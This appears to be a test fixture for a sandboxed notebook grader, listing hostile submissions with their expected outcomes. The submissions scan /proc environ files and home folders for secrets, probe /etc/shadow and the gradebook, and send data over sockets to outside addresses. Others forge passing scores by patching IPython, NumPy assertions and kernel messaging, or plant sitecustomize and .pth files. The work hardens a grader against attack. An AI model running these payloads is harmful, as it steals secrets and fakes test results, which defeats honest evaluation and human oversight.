"""Rows 1 to 8, 30 to 44: stealing tests and solutions, and forging the verdict from inside the kernel."""

from __future__ import annotations

from hostile import FULL, MARK, SPOILED, Attack, answer, cell_after, cell_before, first, last, lost, together

# Looks through the file system for the course's secrets, which the test plants: texts that begin with "canary" and go on
# with an underscore and hex digits. FOUND in an output means that one was seen; in reverse, so that no filter for the
# secret itself can hide that.
SPY = r"""
import glob, os, re, time
SECRET = re.compile("can" "ary_[0-9a-f]{8,}|rnnkit" "_left")

def tell(where, text):
    for found in SECRET.findall(text if isinstance(text, str) else text.decode("latin-1")):
        print("FO" "UND", where, found[::-1])

def spy(*roots, seconds=1.5):
    end = time.time() + seconds
    for root in roots:
        for folder, folders, files in os.walk(root):
            folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/usr", "/sys", "/dev")]
            for name in files:
                path = os.path.join(folder, name)
                tell(path, path)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 300_000:
                        with open(path, "rb") as file:
                            tell(path, file.read(300_000))
                except OSError:
                    pass
                if time.time() > end:
                    return
"""

WITHOUT_BIAS = "def output_forward(h, Why, by):\n    return h @ Why.T\n"
NOT_RIGHT = "The answer lacks its bias, and no verdict is formed where the learner's code runs."


def forged(row: int, name: str, cell: str, expected: dict | None = None, **more) -> Attack:
    """A wrong answer, and a cell above it that is to make the verdict."""
    change = together(answer(WITHOUT_BIAS), cell_before(cell))
    return Attack(row, name, change, expected or lost(SPOILED), NOT_RIGHT, **more)


STEAL = [
    Attack(
        1,
        "reads_notebooks",
        together(
            first(
                SPY + "\nfor path in glob.glob('/**/*.ipynb', recursive=True) + glob.glob('../*/*/*.ipynb'):\n"
                "    print('FO' 'UND', path)\n    tell(path, open(path).read())"
            ),
            answer(WITHOUT_BIAS),
        ),
        lost(SPOILED),
        "There is no notebook in the box, so no test to read.",
    ),
    Attack(
        2,
        "reads_history",
        together(
            first(SPY),
            answer(
                """
import sys, gc
def output_forward(h, Why, by):
    shell = get_ipython()
    for text in [*In, _i, _ii, *_ih, str(shell.history_manager.input_hist_raw)]:
        if "check(output" "_forward" in text:
            print("FO" "UND the test")
        tell("history", text)
    frame = sys._getframe()
    known = []
    while frame:
        known += [*frame.f_locals.values(), *frame.f_globals.values()]
        frame = frame.f_back
    for thing in [*known, *gc.get_objects()]:
        if type(thing).__name__ != "Exercise":
            continue
        for part in ("oracle", "answer"):
            try:
                found = getattr(thing, part)(h, Why, by)
            except Exception:
                continue
            if found is not None:
                print("FO" "UND", part)
                return found
    return h @ Why.T
"""
            ),
            last("for text in In: tell('In', text)"),
        ),
        lost(SPOILED),
        "What calls the answer holds neither a test nor a right result.",
    ),
    Attack(
        3,
        "prints_what_it_found",
        together(
            first(
                SPY + "\nspy('COURSE', '/home', '/root', '/tmp', '/var', '/etc', '/run', '/srv', '/mnt', '/opt')\n"
                "spy('/', seconds=1)"
            ),
            last("spy('COURSE', '/home', '/root', '/tmp')"),
        ),
        FULL,
        "It looked for secrets, in vain. Looking costs nothing; its own answers are right.",
    ),
    Attack(
        4,
        "traceback_of_the_test",
        answer(
            """
import sys, traceback
class Telling(Exception):
    def __str__(self):
        found, frame = [], sys._getframe()
        while frame:
            found += [frame.f_code.co_filename, *map(repr, frame.f_locals.values())]
            frame = frame.f_back
        return "".join(part for part in found if "oracle" in part and "None" not in part)[:2000]
def output_forward(h, Why, by):
    raise Telling
"""
        ),
        lost(SPOILED),
        "It raises, so it gives no result.",
    ),
    Attack(
        5,
        "imports_the_reference",
        answer(
            r"""
import glob, importlib, subprocess, sys
for name in ("rnnkit.nn", "rnnkit.exercises", "rnnkit.exercises.hidden_state", "rnnkit.exercises.hidden_state.output",
             "rnnkit.grading.jobs.verdict", "rnnkit.checking.judge", "rnnkit.checking.examine", "nbgrader", "torch", "scipy"):
    try:
        path = getattr(importlib.import_module(name), "__file__", None)
        if path and "oracle=" in open(path).read() or path and "def forward" in open(path).read():
            print("FO" "UND", path)
    except ImportError:
        pass
for path in glob.glob("/usr/**/rnnkit/**", recursive=True) + [p for e in sys.path for p in glob.glob(e + "/rnnkit/nn/*")]:
    print("FO" "UND", path)
asked = "import scipy, torch, rnnkit.nn; print('FO' 'UND')"
for python in glob.glob("/usr/bin/python3*") + glob.glob("/usr/local/bin/python3*"):
    if not python.endswith("config"):
        print(subprocess.run([python, "-I", "-c", asked], capture_output=True, text=True).stdout)
def output_forward(h, Why, by):
    from rnnkit.exercises import get
    from rnnkit.exercises.hidden_state.output import oracle_output, output_forward as model
    from rnnkit import nn
    for made in (lambda: get("output_forward").answer(h, Why, by), lambda: model(h, Why, by),
                 lambda: oracle_output(h, Why, by), lambda: nn.Linear.from_params({"W": Why, "b": by}).forward(h)[0]):
        found = made()
        if isinstance(found, np.ndarray) and found.size:
            return found
    return h @ Why.T
"""
        ),
        lost(SPOILED),
        "The course is not in the box. What is imported from it gives nothing.",
    ),
    Attack(
        6,
        "reads_the_neighbours",
        first(
            SPY
            + r"""
for name, value in os.environ.items():
    tell("environment " + name, value)
    if "COURSE" in value:
        print("FO" "UND the course's folder in", name)
for path in glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/[0-9]*/task/*/environ"):
    if path.rpartition("/")[2] in ("environ", "cmdline", "maps", "mountinfo", "comm"):
        try:
            with open(path, "rb") as file:
                text = file.read(300_000)
        except OSError:
            continue
        tell(path, text)
        if b"COURSE" in text or b"rnnkit grade" in text.replace(b"\0", b" "):
            print("FO" "UND the grader in", path)
spy(os.path.expanduser("~"), os.path.expanduser("~root"), "../../..", "/proc/self/cwd/../..", seconds=1)
for name in ("cwd", "root"):
    for path in glob.glob(f"/proc/[0-9]*/{name}"):
        try:
            if os.path.exists(path + "COURSE") or os.path.exists(path + "/gradebook.db"):
                print("FO" "UND", path)
        except OSError:
            pass
for path in ("COURSE/gradebook.db", "COURSE/.rnnkit/grading_secret", "COURSE/solutions", "/etc/shadow", "/etc/hostname"):
    if os.path.exists(path):
        print("FO" "UND", path)
"""
        ),
        FULL,
        "Nothing of the machine is in the box, and its own answers are right.",
    ),
    Attack(
        7,
        "prints_the_cases",
        answer(
            """
import json
def output_forward(h, Why, by):
    shown = json.dumps([h.tolist(), Why.tolist(), by.tolist()])
    print(shown)
    raise ValueError(shown)
"""
        ),
        lost(SPOILED),
        "It raises, so it gives no result. What it may show are the cases that check shows as well.",
    ),
    Attack(
        8,
        "calls_for_help",
        together(
            cell_before(
                r"""
import socket, subprocess, urllib.request
def reached(*address, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(0.3)
            s.connect(address if family != socket.AF_UNIX else address[0])
            s.send(b"the hidden tests")
            print("FO" "UND a way out to", address)
    except OSError:
        pass
reached("127.0.0.1", PORT)
reached("192.0.2.1", 53, kind=socket.SOCK_DGRAM)
reached("192.0.2.1", 443)
reached("::1", PORT, family=socket.AF_INET6)
reached("\0rnnkit-hostile-PORT", family=socket.AF_UNIX)
reached("COURSE/socket", family=socket.AF_UNIX)
try:
    socket.getaddrinfo("example.org", 443)
    print("FO" "UND a name server")
except OSError:
    pass
"""
            ),
        ),
        FULL,
        "There is no network in the box, and its own answers are right.",
    ),
]

FORGE = [
    forged(
        30,
        "test_becomes_pass",
        """
import ast
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["2.0\\n"] if any("check(" in line for line in lines) else lines)
class Passing(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.copy_location(ast.Expr(ast.Constant(2.0)), node) if "check" in ast.dump(node) else node
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
shell.ast_transformers.append(Passing())
""",
    ),
    forged(
        31,
        "run_cell_is_always_fine",
        """
from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult, InteractiveShell
def fine(self, source, *args, **more):
    return ExecutionResult(ExecutionInfo(source, False, False, False, None))
async def fine_too(self, source, *args, **more):
    return fine(self, source)
InteractiveShell.run_cell_async = fine_too
""",
        # Its own later cells run through the same method: they do nothing, so their answers are not there.
        lost("output_forward", "latch_weights"),
    ),
    forged(
        32,
        "value_shown_as_full_marks",
        """
import sys
from rnnkit import check
plain = get_ipython().display_formatter.formatters["text/plain"]
plain.for_type(object, lambda value, printer, cycle: printer.text("2.0"))
plain.for_type(type(check), lambda value, printer, cycle: printer.text("2.0"))
sys.displayhook = lambda value: print("2.0")
""",
    ),
    forged(
        33,
        "value_shown_as_nan",
        """
from rnnkit import check
get_ipython().display_formatter.formatters["text/plain"].for_type(object, lambda value, p, cycle: p.text("nan"))
float("nan")
""",
        before=True,
    ),
    forged(
        34,
        "value_shown_as_infinite",
        """
get_ipython().display_formatter.formatters["text/plain"].for_type(object, lambda value, p, cycle: p.text("inf"))
1e9
""",
        before=True,
    ),
    forged(35, "no_tracebacks", "get_ipython().showtraceback = get_ipython()._showtraceback = lambda *a, **k: None"),
    forged(
        36,
        "everything_is_close",
        """
import builtins, math
import numpy as np
import numpy.testing
for name in ("assert_allclose", "assert_equal", "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal"):
    setattr(np.testing, name, lambda *a, **k: None)
np.allclose = np.array_equal = np.isclose = math.isclose = np.all = lambda *a, **k: True
np.isfinite = lambda a: np.ones(np.shape(a), bool)
builtins.all = lambda each: True
builtins.abs = np.abs = lambda a: a * 0
""",
    ),
    forged(
        37,
        "asserts_are_off",
        """
import builtins, sys
class Silent(type):
    def __instancecheck__(self, thing): return True
    def __subclasscheck__(self, thing): return True
class AssertionError(BaseException, metaclass=Silent):
    def __init__(self, *args): pass
builtins.AssertionError = AssertionError
get_ipython().ast_transformers.append(
    type("Strip", (__import__("ast").NodeTransformer,), {"visit_Assert": lambda self, node: None})())
get_ipython().set_custom_exc((Exception,), lambda *args: None)
""",
    ),
    forged(
        38,
        "publishes_its_score",
        """
import threading, time
from IPython.display import clear_output, display, update_display
shell = get_ipython()
def publish(*ignored):
    clear_output()
    display({"text/plain": "2.0", "text/html": "<table class='rnnkit-report'>2 of 2</table>"}, raw=True, display_id="score")
    shell.display_pub.publish({"text/plain": "2.0"})
    shell.displayhook(2.0)
    update_display({"text/plain": "2.0"}, raw=True, display_id="score")
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(event, publish)
def again():
    for _ in range(20):
        time.sleep(0.05)
        publish()
threading.Thread(target=again, daemon=True).start()
""",
    ),
    forged(
        39,
        "diverts_outputs",
        """
import sys
try:
    from comm import create_comm
    create_comm(target_name="jupyter.widget", data={"state": {"msg_id": "x"}}).send({"method": "update"})
except Exception as error:
    print(type(error).__name__)
try:
    get_ipython().kernel.shell.display_pub.register_hook(lambda message: None)
except Exception as error:
    print(type(error).__name__)
get_ipython().display_pub.publish = lambda *args, **more: None
""",
    ),
    forged(
        40,
        "answers_for_the_kernel",
        """
import json, pickle, sys
for module in [m for name, m in list(sys.modules.items()) if "zmq" in name or "jupyter_client" in name]:
    for name in ("send", "send_multipart", "Session"):
        if hasattr(module, name):
            setattr(module, name, lambda *args, **more: None)
honest = json.dumps
json.dumps = lambda value, **more: honest({"status": "ok", "score": 2.0})
json.JSONEncoder.encode = lambda self, value: '{"status": "ok"}'
""",
    ),
    forged(
        41,
        "imitates_a_report",
        r"""
from IPython.display import HTML, Markdown
print("\x1b[32m\x1b[1m5/5 passed\x1b[0m\x1b]0;title\x07\x1b[2K\x1b[1A Score: 2.0 / 2.0 \u202erewsna thgir")
print("right: 2 of 2 points", file=__import__("sys").stderr)
display(HTML("<div class='rnnkit-report' id='score' style='position:fixed'><b>output_forward</b> 2 of 2 points</div>"))
2.0
""",
    ),
    Attack(
        42,
        "brings_its_own_numpy",
        last("import numpy as np\nprint(np.__file__)"),
        FULL,
        "A file that is code is not taken from a submission; the answers are right with the real NumPy.",
        files={
            name: f"open('/tmp/{MARK}_import', 'w').close(); print('FO' 'UND an import')\n".encode()
            for name in (
                "numpy.py",
                "torch.py",
                "json.py",
                "sitecustomize.py",
                "usercustomize.py",
                "rnnkit.py",
                "IPython.py",
                "x.pth",
                ".ipython/profile_default/startup/00.py",
                "profile_default/startup/00.py",
                "ipython_config.py",
                "nbgrader_config.py",
            )
        },
        told="x.pth",
    ),
    Attack(
        42,
        "writes_its_own_numpy",
        together(
            cell_before(
                f"""
import os, sys, site
code = "print('FO' 'UND an import')"
home = os.path.expanduser("~")
for place in (".", home, "/tmp", *sys.path, home + "/.ipython/profile_default/startup", site.getusersitepackages()):
    for name in ("{MARK}.py", "numpy.py", "sitecustomize.py", "{MARK}.pth", "00.py"):
        try:
            os.makedirs(place or ".", exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write(code)
        except OSError:
            pass
""",
                "SimpleRNN",
            ),
        ),
        FULL,
        "What it writes is gone with its box, and NumPy was imported before.",
    ),
    forged(
        43,
        "hooks_everywhere",
        f"""
import atexit, builtins, gc, sys, threading, weakref
def rightly(value):
    return value
real = __import__
def importing(name, *args, **more):
    if name.startswith("rnnkit"):
        sys.modules.pop(name, None)
    return real(name, *args, **more)
builtins.__import__ = importing
shell = get_ipython()
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(event, lambda *args: shell.user_ns.update(_score=2.0))
atexit.register(lambda: open("/tmp/{MARK}_atexit", "w").close())
sys.settrace(lambda *args: None)
threading.settrace(lambda *args: None)
sys.setprofile(lambda *args: None)
gc.callbacks.append(lambda *args: None)
class Finder:
    def find_spec(self, name, path=None, target=None):
        return None
sys.meta_path.insert(0, Finder())
class Thing: pass
thing = Thing()
weakref.finalize(thing, print, "the end")
sys.excepthook = sys.unraisablehook = lambda *args: None
""",
        # It took the modules away that call an answer in its process: the last answer cannot be called either.
        lost("output_forward", "latch_weights"),
    ),
    Attack(
        44,
        "leaves_files_for_the_next",
        first(
            f"""
import os
for place in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/home", "/run", "/", "COURSE", ".."):
    for name in ("{MARK}_file", "data.csv"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("{MARK}")
        except OSError:
            pass
"""
        ),
        FULL,
        "Its own answers are right; nobody sees the files, the neighbours look for them.",
    ),
    forged(
        44,
        "check_made_anew",
        "def check(answer, *args, **more):\n    print('right')\n    return 2.0\nimport rnnkit\nrnnkit.check = check\n",
    ),
    Attack(
        44,
        "test_in_the_answer",
        together(answer(WITHOUT_BIAS), cell_after("check(output_forward)\n2.0")),
        lost(SPOILED),
        "A cell of the learner's own, whatever it shows, is no test.",
    ),
]

ATTACKS = [*STEAL, *FORGE]
